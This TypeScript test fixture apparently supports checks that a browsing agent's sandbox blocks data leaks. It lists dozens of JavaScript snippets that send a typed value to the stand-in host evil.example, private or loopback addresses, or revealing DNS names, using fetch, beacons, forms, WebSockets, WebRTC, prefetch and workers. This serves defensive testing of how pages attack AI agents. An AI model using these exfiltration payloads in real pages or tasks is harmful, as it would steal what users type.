/** A way in which a page tries to leak what the agent typed: scripts of the page, and other files that it serves. */
export interface Trick {
  readonly name: string
  /** Runs when the button is pressed. `V` is the value that the agent typed. */
  readonly script: string
}

const E = 'http://evil.example'
const js = (name: string, script: string): Trick => ({ name, script })
const add = (html: string) => `document.body.insertAdjacentHTML('beforeend', ${html})`

/** None of these may reach `evil.example` or a private address, or send a changing request anywhere. */
export const EGRESS_TRICKS: readonly Trick[] = [
  js('fetch GET', `fetch('${E}/?'+V,{mode:'no-cors'})`),
  js('fetch POST', `fetch('${E}/',{method:'POST',mode:'no-cors',body:V})`),
  js('fetch PUT to its own host', `fetch('/put',{method:'PUT',body:V})`),
  js('fetch DELETE to its own host', `fetch('/x',{method:'DELETE'})`),
  js('fetch keepalive', `fetch('${E}/',{method:'POST',mode:'no-cors',keepalive:true,body:V})`),
  js('XHR', `const x=new XMLHttpRequest();x.open('POST','${E}/');x.send(V)`),
  js('XHR to its own host', `const x=new XMLHttpRequest();x.open('POST','/x');x.send(V)`),
  js('beacon', `navigator.sendBeacon('${E}/',V)`),
  js('beacon to its own host', `navigator.sendBeacon('/b',V)`),
  js('image', `new Image().src='${E}/i?'+V`),
  js('script', `const s=document.createElement('script');s.src='${E}/s?'+V;document.head.append(s)`),
  js('style sheet', add(`'<link rel=stylesheet href="${E}/c?'+V+'">'`)),
  js(
    'font',
    add(`'<style>@font-face{font-family:x;src:url(${E}/f?'+V+')}</style><p style="font-family:x">x</p>'`),
  ),
  js('background picture', `document.body.style.background='url(${E}/bg?'+V+')'`),
  js('video', add(`'<video autoplay src="${E}/v?'+V+'"></video>'`)),
  js('object', add(`'<object data="${E}/o?'+V+'"></object>'`)),
  js('frame', add(`'<iframe src="${E}/fr?'+V+'"></iframe>'`)),
  js('frame with srcdoc', add(`'<iframe srcdoc="<img src=${E}/sd?'+V+'>"></iframe>'`)),
  js('frame of data:', add(`'<iframe src="data:text/html,<img src=${E}/dt?'+V+'>"></iframe>'`)),
  js(
    'form by POST',
    add(`'<form id=f method=post action="${E}/p"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
  ),
  js('form by GET', add(`'<form id=f action="${E}/g"><input name=v value="'+V+'"></form>'`) + `;f.submit()`),
  js(
    'form into a new window',
    add(`'<form id=f method=post target=_blank action="${E}/w"><input name=v value="'+V+'"></form>'`) +
      `;f.submit()`,
  ),
  js(
    'form into a frame',
    add(
      `'<iframe name=q></iframe><form id=f method=post target=q action="${E}/q"><input name=v value="'+V+'"></form>'`,
    ) + `;f.submit()`,
  ),
  js(
    'form to its own host',
    add(`'<form id=f method=post action="/own"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
  ),
  js('location', `location.href='${E}/l?'+V`),
  js('window.open', `window.open('${E}/wo?'+V)`),
  js('meta refresh', add(`'<meta http-equiv=refresh content="0;url=${E}/m?'+V+'">'`)),
  js('ping of a link', add(`'<a id=a href="#" ping="${E}/ping">x</a>'`) + `;a.click()`),
  js('WebSocket', `new WebSocket('ws://evil.example/ws?'+V)`),
  js('WebSocket to its own host', `const w=new WebSocket('ws://shop.example/ws');w.onopen=()=>w.send(V)`),
  js('EventSource', `new EventSource('${E}/es?'+V)`),
  js(
    'worker',
    `new Worker(URL.createObjectURL(new Blob(["fetch('${E}/wk',{method:'POST',mode:'no-cors',body:'"+V+"'})"])))`,
  ),
  js(
    'worker that posts home',
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://shop.example/wk',{method:'POST',mode:'no-cors',body:'"+V+"'})"])))`,
  ),
  js('shared worker', `new SharedWorker('/shared.js#'+V)`),
  js('service worker', `navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js')`),
  js(
    'WebRTC',
    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:evil.example:80'},{urls:'turn:evil.example:80?transport=tcp',username:V,credential:V}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
  ),
  js('WebTransport', `new WebTransport('https://evil.example/'+V)`),
  js(
    'prefetch',
    add(`'<link rel=prefetch href="${E}/pf?'+V+'"><link rel=preload as=script href="${E}/pl?'+V+'">'`),
  ),
  js(
    'speculation rules',
    `const s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prerender:[{urls:['${E}/sp?'+V]}],prefetch:[{urls:['${E}/sq?'+V]}]});document.head.append(s)`,
  ),
  js(
    'preconnect and names',
    add(`'<link rel=preconnect href="${E}"><link rel=dns-prefetch href="//'+V+'.evil.example">'`),
  ),
  js('redirect of its own host', `fetch('/to-evil?'+V,{mode:'no-cors'})`),
  js('redirect that keeps the method', `fetch('/keep-method',{method:'POST',mode:'no-cors',body:V})`),
  js('page that redirects', `location.href='/to-evil?'+V`),
  js(
    'a private address',
    `fetch('http://10.0.0.5/?'+V,{mode:'no-cors'});new Image().src='http://10.0.0.5/i?'+V`,
  ),
  js('a name of a private address', `fetch('http://inside.example/?'+V,{mode:'no-cors'})`),
  js(
    'loopback',
    `fetch('http://127.0.0.1:7777/?'+V,{mode:'no-cors'});fetch('http://localhost/?'+V,{mode:'no-cors'})`,
  ),
  js('a server of ours', `fetch('http://own.example/?'+V,{mode:'no-cors'})`),
  js('CSP report', `location.href='/csp?'+V`),
  js('WebSocket to a name that tells', `new WebSocket('ws://'+V+'.evil.example/')`),
  js('WebSocket over TLS to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`),
  js('fetch to a name that tells', `fetch('http://'+V+'.evil.example/',{mode:'no-cors'})`),
  js('fetch over TLS to a name that tells', `fetch('https://'+V+'.evil.example/',{mode:'no-cors'})`),
  js('image at a name that tells', `new Image().src='http://'+V+'.evil.example/'`),
  js('a page at a name that tells', `location.href='https://'+V+'.evil.example/'`),
  js('a window at a name that tells', `window.open('http://'+V+'.evil.example/')`),
  js(
    'names that tell, in links that load ahead',
    add(
      `'<link rel=dns-prefetch href="//'+V+'a.evil.example"><link rel=preconnect href="https://'+V+'b.evil.example"><link rel=prefetch href="https://'+V+'c.evil.example/">'`,
    ),
  ),
  js(
    'WebRTC to a name that tells',
    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+V+'.evil.example:3478'},{urls:'turn:'+V+'.evil.example:443?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
  ),
  js('a portal of names', `for(let i=0;i<3;i++)new Image().src='http://'+V+i+'.evil.example/x'`),
]

const S = 'https://evil.example'

/** The same from a page over TLS, where the proxy sees only hosts. */
export const SECURE_TRICKS: readonly Trick[] = [
  js('fetch', `fetch('${S}/?'+V,{mode:'no-cors'})`),
  js('POST', `fetch('${S}/',{method:'POST',mode:'no-cors',body:V})`),
  js('POST to its own host', `fetch('/own',{method:'POST',body:V})`),
  js('beacon', `navigator.sendBeacon('${S}/',V)`),
  js('image', `new Image().src='${S}/i?'+V`),
  js('location', `location.href='${S}/l?'+V`),
  js(
    'form by POST',
    add(`'<form id=f method=post action="${S}/p"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
  ),
  js('WebSocket', `new WebSocket('wss://evil.example/?'+V)`),
  js('WebSocket to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`),
  js('WebSocket to its own host', `const w=new WebSocket('wss://shop.example/ws');w.onopen=()=>w.send(V)`),
  js('worker', `new Worker(URL.createObjectURL(new Blob(["fetch('${S}/wk?"+V+"',{mode:'no-cors'})"])))`),
  js(
    'WebRTC by TLS',
    `const p=new RTCPeerConnection({iceServers:[{urls:'turns:evil.example:443?transport=tcp',username:V,credential:V}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
  ),
  js('preconnect', add(`'<link rel=preconnect href="https://'+V+'.evil.example">'`)),
]
